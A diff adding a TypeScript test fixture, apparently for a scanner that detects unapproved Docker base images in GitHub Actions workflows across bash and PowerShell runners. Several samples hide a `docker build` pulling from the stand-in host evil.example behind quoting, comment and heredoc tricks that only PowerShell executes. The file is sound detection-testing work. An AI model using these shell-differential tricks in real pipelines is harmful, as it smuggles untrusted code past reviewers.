@@ -1,0 +1,127 @@
+import type { BuildChangeRow } from './build-changes.js';
+
+const EVIL = 'evil.example/x:1';
+const BUILD = `docker build --build-arg BASE=${EVIL} .`;
+const FLOW = '.github/workflows/build.yml';
+const FOUND = [`Dockerfile:2 unapproved ${EVIL}`];
+/** One text to bash, and a build between two texts to PowerShell. */
+const HIDDEN = `Write-Host "\\"; ${BUILD}; Write-Host "\\" # "`;
+
+const expression = (text: string) => `\${{ ${text} }}`;
+
+/** `job`: the lines of the job before its steps. */
+const row = (
+  job: readonly string[],
+  script: string,
+  found: readonly string[],
+  step: readonly string[] = [],
+  { top = '' } = {},
+): BuildChangeRow => ({
+  name: `${found.length === 0 ? 'quiet' : 'found'} in ${JSON.stringify(script)} (${[...job, ...step].join(' ')})`,
+  base: { Dockerfile: 'ARG BASE=debian:trixie-slim\nFROM $BASE\n' },
+  change: {
+    [FLOW]: [
+      `on: push\n${top}jobs:\n  build:`,
+      ...job.map((line) => `    ${line}`),
+      '    steps:\n      - name: build',
+      ...step.map((line) => `        ${line}`),
+      '        run: |2',
+      ...script.split('\n').map((line) => `          ${line}`),
+      '',
+    ].join('\n'),
+  },
+  found,
+});
+
+const runsOn = (labels: string): readonly string[] => [`runs-on: ${labels}`];
+const inMatrix = (values: string): readonly string[] => [
+  `runs-on: ${expression('matrix.os')}`,
+  `strategy: { matrix: { os: ${values} } }`,
+];
+
+const MAYBE_WINDOWS: readonly (readonly string[])[] = [
+  runsOn('windows-latest'),
+  runsOn('[self-hosted, windows]'),
+  runsOn('{ group: big, labels: windows }'),
+  runsOn('{ group: big, labels: [windows-2022] }'),
+  runsOn('{ group: win }'),
+  runsOn(`"${expression(`fromJSON('[\\"windows-latest\\"]')`)}"`),
+  runsOn(expression("github.sha && 'windows-latest'")),
+  runsOn(expression('vars.R')),
+  runsOn(`[self-hosted, "${expression('vars.R')}"]`),
+  runsOn('self-hosted'),
+  runsOn('[self-hosted, x64]'),
+  runsOn('win25-xl'),
+  inMatrix('[ubuntu-latest, windows-latest]'),
+  inMatrix('[[self-hosted, windows]]'),
+  inMatrix(`"${expression('fromJSON(vars.R)')}"`),
+];
+
+const KNOWN_UNIX: readonly (readonly string[])[] = [
+  runsOn('ubuntu-latest'),
+  runsOn('macos-15'),
+  runsOn('[self-hosted, linux, x64]'),
+  runsOn('{ group: big, labels: ubuntu-24.04-8core }'),
+  runsOn('buildjet-4vcpu-ubuntu-2204'),
+  runsOn(`ubuntu-${expression('vars.R')}`),
+  runsOn(`"${expression(`fromJSON('[\\"self-hosted\\", \\"Linux\\"]')`)}"`),
+  inMatrix('[ubuntu-latest, macos-latest]'),
+  inMatrix('[[self-hosted, linux]]'),
+  [...runsOn('self-hosted'), 'container: alpine'],
+  [...runsOn('self-hosted'), 'defaults: { run: { shell: bash } }'],
+];
+
+/** What only PowerShell runs, or runs with other words. */
+const HIDING: readonly string[] = [
+  HIDDEN,
+  `docker build --label "\\" --build-arg BASE=${EVIL} --label "\\" .`,
+  `Write-Host ‘a' ; ${BUILD} # '`,
+  `cat <# <<END\n#>\n${BUILD}\n# END`,
+  `docker build --build-arg BASE=${EVIL} . --label \\\nx --build-arg BASE=debian:13`,
+  `Set-Alias d docker; d build --build-arg BASE=${EVIL} .`,
+];
+
+/** What people write for bash, whose variables PowerShell does not know. */
+const HONEST: readonly string[] = [
+  'docker build --build-arg BASE=$BASE .',
+  'docker build \\\n  --build-arg "BASE=$BASE" \\\n  -t x:$(git rev-parse HEAD) \\\n  .',
+  'ARGS="--build-arg BASE=debian:13"\nif [ -n "$CI" ]; then\n  docker build $ARGS .\nfi',
+  'for tag in a b; do\n  docker build --build-arg BASE="$BASE" -t "x:$tag" . && docker push "x:$tag"\ndone',
+  'curl -d "{\\"text\\": \\"a\\"}" https://x.example\necho a\necho b\ndocker build --build-arg BASE=$BASE .',
+  'echo "A=b" >> "$GITHUB_ENV"\ndocker build --build-arg BASE=$BASE .',
+  'cat > notes.txt <<END\nall of it "as is"\nEND\ndocker build --build-arg BASE=$BASE .',
+];
+
+const ENVIRONMENT = 'env: { BASE: "debian:13" }\n';
+
+export const RUNNER_CHANGES: readonly BuildChangeRow[] = [
+  ...MAYBE_WINDOWS.map((job) => row(job, HIDDEN, FOUND)),
+  row(runsOn('self-hosted'), `$env:BASE = "${EVIL}"\ndocker build --build-arg BASE=$env:BASE .`, [
+    'Dockerfile:2 unresolved',
+  ]),
+  ...HIDING.map((script) => row(runsOn('self-hosted'), script, FOUND)),
+  ...KNOWN_UNIX.map((job) => row(job, HIDDEN, [])),
+  ...HONEST.flatMap((script) => [
+    row(runsOn('self-hosted'), script, [], [], { top: ENVIRONMENT }),
+    row(runsOn(expression('vars.R')), script, [], [], { top: ENVIRONMENT }),
+  ]),
+  row([...runsOn('ubuntu-latest'), 'strategy: { matrix: { s: [bash, pwsh] } }'], HIDDEN, FOUND, [
+    `shell: "${expression('matrix.s')}"`,
+  ]),
+  row(
+    [...runsOn('ubuntu-latest'), 'strategy: { matrix: { s: [bash, sh] } }'],
+    HIDDEN,
+    [],
+    [`shell: "${expression('matrix.s')}"`],
+  ),
+  row(
+    [
+      ...runsOn('ubuntu-latest'),
+      'strategy: { matrix: { s: [pwsh] } }',
+      `defaults: { run: { shell: "${expression('matrix.s')}" } }`,
+    ],
+    HIDDEN,
+    FOUND,
+  ),
+  row(runsOn('self-hosted'), HIDDEN, [], ['shell: bash']),
+];
